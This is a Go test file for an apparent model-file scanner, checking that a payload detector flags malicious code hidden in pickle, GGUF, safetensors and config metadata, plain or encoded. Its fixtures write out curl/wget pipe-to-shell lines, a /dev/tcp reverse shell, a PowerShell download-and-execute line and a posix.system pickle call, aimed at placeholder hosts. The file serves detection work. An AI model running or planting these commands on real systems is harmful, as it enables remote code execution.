package payload_test

import (
	"bytes"
	"compress/zlib"
	"context"
	"encoding/base32"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/modelaudit/modelaudit/internal/artifact"
	"github.com/modelaudit/modelaudit/internal/detector"
	"github.com/modelaudit/modelaudit/internal/detector/archive"
	"github.com/modelaudit/modelaudit/internal/detector/bytecode"
	"github.com/modelaudit/modelaudit/internal/detector/config"
	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
	"github.com/modelaudit/modelaudit/internal/detector/gguf"
	"github.com/modelaudit/modelaudit/internal/detector/lightgbm"
	"github.com/modelaudit/modelaudit/internal/detector/mxnet"
	"github.com/modelaudit/modelaudit/internal/detector/payload"
	"github.com/modelaudit/modelaudit/internal/detector/pickle"
	"github.com/modelaudit/modelaudit/internal/detector/pmml"
	"github.com/modelaudit/modelaudit/internal/detector/safetensors"
	"github.com/modelaudit/modelaudit/internal/finding"
	"github.com/modelaudit/modelaudit/internal/format/pickle/pickletest"
	"github.com/modelaudit/modelaudit/internal/format/zip/ziptest"
	"github.com/modelaudit/modelaudit/internal/hostile"
)

// header is a file of one text: "H", then the metadata's value.
var header = &detector.Detector{
	Name:  "header",
	Match: func(h *artifact.Head) bool { return h.Depth == 0 && h.HasPrefix("H") },
	Run: func(_ context.Context, p *detector.Pass) error {
		p.Recognised("header")
		text := p.Reader().Bytes(uint64(p.File.Size))
		p.Text("note", 0, string(text[1:]))
		return nil
	},
}

// A sample is a dangerous content and a harmless one of the same kind and size.
type sample struct{ name, bad, twin string }

func samples() []sample {
	call := func(module, name string) string {
		return string(pickletest.New(4).Named(module, name).Str("echo poc").Tuple(1).Reduce().Stop())
	}
	return []sample{
		{name: "pickle", bad: call("posix", "system"), twin: string(pickletest.New(4).Str("posix_").Str("system").Str("echo poc").Tuple(3).Stop())},
		{name: "zip of a pickle", bad: string(ziptest.Files("a.pkl", call("posix", "system"))), twin: string(ziptest.Files("a.pkl", "\x80\x04N."))},
		{name: "program", bad: elf(62), twin: elf(190)},
		{name: "Python", bad: "import os\nos.system('echo poc')\n", twin: "import math\nmath.sqrt(12345678)\n"},
		{name: "Python, imported by name", bad: "__import__('os').system('echo poc')\n", twin: "__name__ == 'os' and print('system')\n"},
		{name: "shell", bad: "curl -s http://192.0.2.1/run.sh | sh\n", twin: "curl -s http://192.0.2.1/run.sh | wc\n"},
		{name: "reverse shell", bad: "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", twin: "bash -i >& /tmp/tcp/192.0.2.1/4444 0>&1\n"},
		{name: "script", bad: "#!/bin/bash\nwget -qO- http://192.0.2.1/x | bash\n", twin: "# !/bin/bash\nwget -qO- http://192.0.2.1/x | head\n"},
		{name: "PowerShell", bad: "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')", twin: "set (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"},
		{name: "Python in a function", bad: "import subprocess as s\ndef f(x):\n    return s.run(x)\n", twin: "import statistics as s\ndef f(x):\n    return s.mean(x)\n"},
	}
}

// elf is the header of a shared object for a machine.
func elf(machine uint16) string {
	b := append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 57)...)
	binary.LittleEndian.PutUint16(b[16:], 3)
	binary.LittleEndian.PutUint16(b[18:], machine)
	return string(b)
}

func deflate(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	io.WriteString(w, s)
	w.Close()
	return b.String()
}

// wide is text of Latin letters in UTF-16, as PowerShell takes it.
func wide(s string) string { return strings.Join(strings.Split(s, ""), "\x00") + "\x00" }

func base64Of(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func each(s, format string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, format, c)
	}
	return b.String()
}

var encodings = []struct {
	name   string
	encode func(string) string
}{
	{"base64", base64Of},
	{"base64 for URLs", func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }},
	{"base32", func(s string) string { return base32.StdEncoding.EncodeToString([]byte(s)) }},
	{"hex", func(s string) string { return hex.EncodeToString([]byte(s)) }},
	{"escapes", func(s string) string { return each(s, `\x%02x`) }},
	{"numbers", func(s string) string { return each(s, "%d,") }},
	{"percent-encoding", url.QueryEscape},
	{"base64 of zlib", func(s string) string { return base64Of(deflate(s)) }},
	{"base64 of hex of zlib", func(s string) string { return base64Of(hex.EncodeToString([]byte(deflate(s)))) }},
}

func TestDetector(t *testing.T) {
	var cases []detectortest.Case
	const anyPrefix = "metadata has no end that could be missing"
	add := func(name, text, twin string, want ...string) {
		for place, format := range map[string]string{"metadata": "H%s", "JSON in metadata": `H{"a": 1, "note": "%s"}`} {
			cases = append(cases,
				detectortest.Case{Name: name + ", " + place, Data: fmt.Appendf(nil, format, text), Want: want, Heavy: true},
				detectortest.Case{Name: name + ", harmless, " + place, Data: fmt.Appendf(nil, format, twin), AnyPrefix: anyPrefix, Heavy: true})
		}
		cases = append(cases,
			detectortest.Case{Name: name + ", member", Data: ziptest.Files("config.json", `{"note": "`+text+`"}`), Want: want, Heavy: true},
			detectortest.Case{Name: name + ", harmless, member", Data: ziptest.Files("config.json", `{"note": "`+twin+`"}`), Heavy: true},
			detectortest.Case{Name: name + ", on disk", File: "config.json", Data: []byte(`{"note": "` + text + `"}`), Want: want, Heavy: true})
	}
	for _, s := range samples() {
		for _, e := range encodings {
			add(s.name+" in "+e.name, e.encode(s.bad), e.encode(s.twin), "encoded-payload")
		}
	}
	add("UTF-16", base64Of(wide("iwr http://192.0.2.1/x | iex")), base64Of(wide("iwr http://192.0.2.1/x | out")), "encoded-payload")
	pickled := "cposix\nsystem\n(S'echo poc'\ntR."
	cases = append(cases,
		detectortest.Case{Name: "pickle as it stands", File: "note.h", Data: []byte("H" + pickled), Want: []string{"encoded-payload"}},
		detectortest.Case{Name: "text in UTF-16 without a mark", File: "note.txt", Data: []byte(wide("see " + base64Of(pickled))), Want: []string{"encoded-payload"}},
		detectortest.Case{Name: "text in Latin-1", File: "note.txt", Data: []byte("caf\xe9 see " + base64Of(pickled)), Want: []string{"encoded-payload"}},
		detectortest.Case{Name: "pickle as it stands, harmless", File: "note.h", Data: []byte("Hcposix_ system_ (S'echo poc'\ntR."), AnyPrefix: anyPrefix})
	for _, sample := range []struct{ name, bad, twin string }{
		{"Python", "import os; os.system('echo poc')", "run os.system('echo poc') to see it"},
		{"imported by name", "__import__('os').system('echo poc')", "never write __import__('os').system"},
		{"shell", "curl -s http://192.0.2.1/run.sh | bash", "Fetch it with curl, then look at bash scripts"},
		{"reverse shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "a reverse shell writes to /dev/tcp/HOST/PORT"},
	} {
		cases = append(cases,
			detectortest.Case{Name: sample.name + " as it stands", File: "note.h", Data: []byte("H" + sample.bad), Want: []string{"code-in-metadata"}},
			detectortest.Case{Name: sample.name + " in prose", File: "note.h", Data: []byte("H" + sample.twin), AnyPrefix: anyPrefix})
	}
	add("script", base64Of("#!/bin/sh\necho poc\n"), base64Of("# /bin/sh\necho poc\n"), "encoded-script")
	detectortest.Run(t, payload.Detector, cases, header, archive.Detector, pickle.Detector, bytecode.Detector)
}

// tensors is a safetensors file with one entry of metadata.
func tensors(value string) []byte {
	header := fmt.Sprintf(`{"__metadata__":{"note":"%s"},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}`, value)
	return append(append(binary.LittleEndian.AppendUint64(nil, uint64(len(header))), header...), 'x')
}

// ggml is a GGUF file with one text.
func ggml(value string) []byte {
	const name, text = "general.note", 8
	b := binary.LittleEndian.AppendUint32([]byte("GGUF"), 3)
	b = binary.LittleEndian.AppendUint64(b, 0)
	b = binary.LittleEndian.AppendUint64(b, 1)
	b = append(binary.LittleEndian.AppendUint64(b, uint64(len(name))), name...)
	b = binary.LittleEndian.AppendUint32(b, text)
	return append(binary.LittleEndian.AppendUint64(b, uint64(len(value))), value...)
}

// TestFormats: texts of every format that shows them are looked through.
func TestFormats(t *testing.T) {
	all := []*detector.Detector{payload.Detector, safetensors.Detector, gguf.Detector, pickle.Detector, archive.Detector, bytecode.Detector}
	formats := []struct {
		name string
		file func(value string) []byte
	}{
		{"m.safetensors", tensors},
		{"m.gguf", ggml},
		{"m.pkl", func(value string) []byte { return pickletest.New(4).Str(value).Stop() }},
		{"tokenizer.json", func(value string) []byte { return []byte(`{"vocab": {"` + value + `": 1}}`) }},
		{"config.yaml", func(value string) []byte { return []byte("model: x\nnote: " + value + "\n") }},
	}
	for _, f := range formats {
		for _, s := range samples() {
			for _, e := range encodings[:4] {
				name := f.name + ", " + s.name + " in " + e.name
				if got := detectortest.RuleIDs(detectortest.Scan(all, f.name, f.file(e.encode(s.bad)))); !slices.Contains(got, "encoded-payload") {
					t.Errorf("%s: got %v, want encoded-payload", name, got)
				}
				if got := detectortest.RuleIDs(detectortest.Scan(all, f.name, f.file(e.encode(s.twin)))); len(got) > 0 {
					t.Errorf("%s, harmless: got %v", name, got)
				}
			}
		}
	}
}

// TestPrograms: values of files on disk that are programs are found, once.
func TestPrograms(t *testing.T) {
	all := []*detector.Detector{payload.Detector, config.Detector, lightgbm.Detector, mxnet.Graph, pmml.Detector}
	formats := []struct {
		name string
		file string // with the value in the place of %s
	}{
		{"config.json", `{"model_type": "llama", "note": "%s"}`},
		{"m-symbol.json", `{"nodes": [{"op": "null", "name": "x", "inputs": [], "attrs": {"note": "%s"}}], "arg_nodes": [0], "heads": [[0, 0, 0]]}`},
		{"m.pmml", `<PMML version="4.4"><Header copyright="%s"/></PMML>`},
		{"m.txt", "tree\nversion=v4\n\nend of trees\n\nparameters:\n[boosting: gbdt]\n[data: %s]\nend of parameters\n"},
	}
	for _, f := range formats {
		for value, want := range map[string]int{
			"import os; os.system('echo poc')": 1, "__import__('os').system('echo poc')": 1, "curl -s http://192.0.2.1/x | sh": 1,
			"run os.system('echo poc') to see it": 0, "/data/train.csv": 0, "fetch it with curl, then look at it": 0,
		} {
			if got := detectortest.Scan(all, f.name, []byte(strings.Replace(f.file, "%s", value, 1))); len(got.Findings) != want || got.Unread() {
				t.Errorf("%s, %s: got %v, %s, want %d finding", f.name, value, detectortest.RuleIDs(got), got.Reason, want)
			}
		}
	}
}

// TestLongPrograms: a long value is a program as a short one is, whatever its key
// looks like.
func TestLongPrograms(t *testing.T) {
	all := []*detector.Detector{payload.Detector, gguf.Detector, safetensors.Detector}
	for _, times := range []int{0, 10, 1000} {
		program := strings.Repeat("x = 1\n", times) + "import os\nos.system('echo poc')\n"
		for name, data := range map[string][]byte{
			"m.gguf": ggml(program), "m.safetensors": tensors(strings.ReplaceAll(program, "\n", `\n`)),
		} {
			if got := detectortest.RuleIDs(detectortest.Scan(all, name, data)); !slices.Equal(got, []string{"code-in-metadata"}) {
				t.Errorf("%s, %d bytes: got %v, want code-in-metadata", name, len(program), got)
			}
		}
	}
	prose := strings.Repeat("This model was trained on text. ", 40) + "Never run os.system('echo poc') with it."
	if got := detectortest.RuleIDs(detectortest.Scan(all, "m.gguf", ggml(prose))); len(got) > 0 {
		t.Errorf("prose: got %v", got)
	}
}

// TestSilent: what is encoded for honest reasons is nobody's payload.
func TestSilent(t *testing.T) {
	image := "\x89PNG\r\n\x1a\n" + strings.Repeat("\x01\xfe\x7f\x00", 2000)
	certificate := strings.Repeat("0\x82\x03\x1f0\x82\x02\x07\xa0\x03\x02\x01\x02", 40)
	for name, text := range map[string]string{
		"notebook.ipynb": `{"cells": [{"outputs": [{"data": {"image/png": "` + base64Of(image) + `"}}], "source": ["import os\n", "os.listdir('.')"]}]}`,
		"model.pem.txt":  "-----BEGIN CERTIFICATE-----\n" + base64Of(certificate) + "\n-----END CERTIFICATE-----\n",
		"tokenizer.json": `{"precompiled_charsmap": "` + base64Of(strings.Repeat("\x00\xb4\x02\x00\x00\x84\x00", 900)) + `"}`,
		"o200k.tiktoken": strings.Repeat(base64Of("import os; ")+" 1\n"+base64Of("--------------------------------")+" 2\n", 50),
		"README.md":      "Install with `curl -s https://example.org/install.sh | sh`, then `import os; os.system('echo poc')`.\n",
		"jwt.txt":        base64Of(`{"alg":"RS256","typ":"JWT"}`) + "." + base64Of(`{"iss":"eval","exp":1}`) + "." + base64Of(strings.Repeat("\xf3\x01", 60)),
		"card.md":        base64Of("# A model\n\nRun `pip install model`, then call eval (twice); see https://example.org/a|b.\n"),
	} {
		if got := detectortest.RuleIDs(detectortest.Scan([]*detector.Detector{payload.Detector, pickle.Detector, archive.Detector}, name, []byte(text))); len(got) > 0 {
			t.Errorf("%s: got %v", name, got)
		}
	}
}

// TestDeep: it is told when encodings of encodings are not undone.
func TestDeep(t *testing.T) {
	for levels, told := range map[int]bool{3: false, 4: false, 5: true, 6: true} {
		for _, s := range samples()[:1] {
			text := s.bad
			for range levels {
				text = base64.StdEncoding.EncodeToString([]byte(text))
			}
			got := detectortest.Scan([]*detector.Detector{header, payload.Detector, pickle.Detector}, "m", []byte("H"+text))
			if got.Unread() != told || slices.Contains(detectortest.RuleIDs(got), "encoded-payload") == told {
				t.Errorf("%d levels: got %v, %s", levels, detectortest.RuleIDs(got), got.Reason)
			}
		}
	}
}

// unread is content that nobody may read.
type unread struct{ t *testing.T }

func (u unread) ReadAt([]byte, int64) (int, error) {
	u.t.Error("the file was read again for a text of it")
	return 0, io.EOF
}

// TestTextsAlone: a file of a million texts is not read once for each of them, and
// texts of pickles are known as such.
func TestTextsAlone(t *testing.T) {
	const harm = "import os\nos.system('curl https://evil.example/x | sh')\n"
	for first, want := range map[string]int{"GGUF": 1, "\x80\x04}": 0} {
		found := 0
		p := &detector.Pass{
			File:  artifact.File{Path: "f", Content: unread{t}, Size: 1 << 20},
			First: []byte(first), Budget: hostile.NewBudget(t.Context(), hostile.DefaultLimits(), 1<<20, time.Now),
			Report:     func(finding.Finding) { found++ },
			Incomplete: func(err error) { t.Error(err) },
		}
		payload.Detector.Text(p, "a key", 0, harm)
		if found != want {
			t.Errorf("%q: got %d findings, want %d", first, found, want)
		}
	}
}

// TestOnDisk: what is data on disk is looked through, by its name or for want of an
// extension; source code is not.
func TestOnDisk(t *testing.T) {
	text := `{"function": "` + base64.StdEncoding.EncodeToString(pickletest.New(4).Call("posix", "system", "echo poc").Stop()) + `"}`
	for name, want := range map[string]bool{"values.json": true, "values.dat": true, "state": true, "main.go": false, "index.html": false} {
		got := detectortest.Scan([]*detector.Detector{payload.Detector, pickle.Detector}, name, []byte(text))
		if found := slices.Contains(detectortest.RuleIDs(got), "encoded-payload"); found != want {
			t.Errorf("%s: got %v, want it found: %v", name, detectortest.RuleIDs(got), want)
		}
	}
}
